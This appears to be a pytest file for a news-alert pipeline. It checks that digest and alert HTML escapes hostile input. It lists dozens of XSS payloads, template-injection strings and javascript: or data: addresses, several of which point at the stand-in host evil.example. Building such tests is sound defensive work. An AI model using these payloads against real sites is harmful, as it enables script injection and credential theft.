"""Hostile headlines, sentences, names and addresses in the HTML of alerts and digests: parsed as a browser would,
nothing of them is alive, and the text is still there to read."""

from __future__ import annotations

from dataclasses import replace

import pytest
from digest_sample import ENTRY_TITLES, NOW, RULES, make_alert, make_health, make_material, make_story
from lxml import html as lxml_html

from pipeline.briefing.alerts import compose_alert_message
from pipeline.briefing.digest import compose_digest
from pipeline.briefing.quoting import one_line
from pipeline.records import PollOutcome, Round, RoundKind, Rule

PAYLOADS = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</bdi></a></td></tr></table><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x20type='text/javascript'>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=x onerror\x0b=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=pw type=password autofocus onfocus=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" style="position:fixed;top:0;left:0;width:100%;height:100%',
    "red;background:url(//evil.example/x)",
    "expression(alert(1))",
    "--><script>alert(1)</script><!--",
    "<!--<img src='--><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\x00script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "{{7*7}}",
    "{{ config.items() }}",
    "{% for i in range(10**9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{# a comment #} {{ self }} {%- raw -%}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "\u202e<script>alert(1)</script>\u202c",
    "<plaintext>",
    "<textarea><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xss style='behavior:url(x.htc)' contenteditable onblur=alert(1)>",
    "<table background=javascript:alert(1)>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://paper.example/" onmouseover="alert(1)',
    "https://paper.example/'><script>alert(1)</script>",
    "https://paper.example/<img src=x onerror=alert(1)>",
    "https://user:pw@evil.example/",
    "//evil.example/",
]
DEAD = {
    *("script", "iframe", "object", "embed", "form", "input", "base", "link", "svg", "math", "img", "video", "source"),
    *("textarea", "details", "marquee", "plaintext", "noscript", "frame", "frameset", "applet", "button", "xss"),
}
OUR_STYLE_WORDS = ("position", "expression", "behavior", "url(", "javascript", "import", "@")


def pages_with(payload: str, url: str = "https://paper.example/1") -> dict[str, str]:
    """A digest and an alert with the payload in every field that comes from outside or from a person."""
    alert = make_alert(41, "putin", 1, entries=("putin",), sentence=payload, title=payload, url=url)
    alert = replace(alert, marks=((0, max(1, len(payload) // 2)),), language=payload, source=payload)
    second = replace(alert, id=42, rule="kurils", story_id=2, entries=("kurils", "putin"))
    material = make_material(
        (alert, second),
        (
            make_story(1, payload, languages="ru ja", title=payload),
            replace(make_story(2, payload, "ostrov"), languages=(payload, "ja")),
        ),
        (Round(payload, RoundKind.IMPORT, PollOutcome.CHANGED, mentions={"putin": 1}),),
        (make_health(payload, payload, failures=3, last_outcome=PollOutcome.FAILED, last_error=payload),),
    )
    digest = compose_digest(
        replace(material, name=payload),
        rules=(*RULES[:3], Rule("putin", payload, any_of=("putin",))),
        entry_titles=ENTRY_TITLES | {"putin": payload},
        source_names={payload: payload},
        timezone="UTC",
        now=NOW,
    )
    message = compose_alert_message(alert, Rule("putin", payload, any_of=("putin",)), payload)
    return {"digest": digest.html, "alert": message.html}


def check_page(page: str) -> lxml_html.HtmlElement:
    tree = lxml_html.document_fromstring(page)
    styles = list(tree.iter("style"))
    assert len(styles) == 1
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in DEAD
        for name, value in element.attrib.items():
            assert not name.startswith("on"), f"{element.tag} {name}"
            assert name not in ("src", "srcdoc", "action", "formaction", "background", "xlink:href", "autofocus")
            if name == "href":
                assert element.tag == "a"
                assert value.startswith(("https://paper.example/", "http://paper.example/"))
            if name == "style":
                assert not any(word in value.lower() for word in OUR_STYLE_WORDS)
    assert [meta.get("http-equiv") for meta in tree.iter("meta")] == [None] * len(list(tree.iter("meta")))
    return tree


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_nothing_of_a_payload_is_alive(payload: str) -> None:
    for page in pages_with(payload).values():
        text = check_page(page).text_content()
        assert one_line(payload) in " ".join(text.split()), "and it can be read as it was written"


@pytest.mark.parametrize("url", ADDRESSES, ids=range(len(ADDRESSES)))
def test_no_address_is_alive(url: str) -> None:
    for page in pages_with("A headline", url).values():
        check_page(page)


def test_all_pages_have_the_same_skeleton() -> None:
    """A payload adds no element and no attribute anywhere: the tags in order are those of a harmless text."""

    def skeleton(page: str) -> list[tuple[str, tuple[str, ...]]]:
        tree = lxml_html.document_fromstring(page)
        return [(str(element.tag), tuple(element.attrib)) for element in tree.iter()]

    expected = {name: skeleton(page) for name, page in pages_with("harmless words of a headline").items()}
    for payload in PAYLOADS:
        assert {name: skeleton(page) for name, page in pages_with(payload).items()} == expected, payload


def test_the_style_is_the_same_for_all() -> None:
    def style(page: str) -> str:
        return next(lxml_html.document_fromstring(page).iter("style")).text_content()

    assert len({style(page) for payload in PAYLOADS for page in pages_with(payload).values()}) == 1
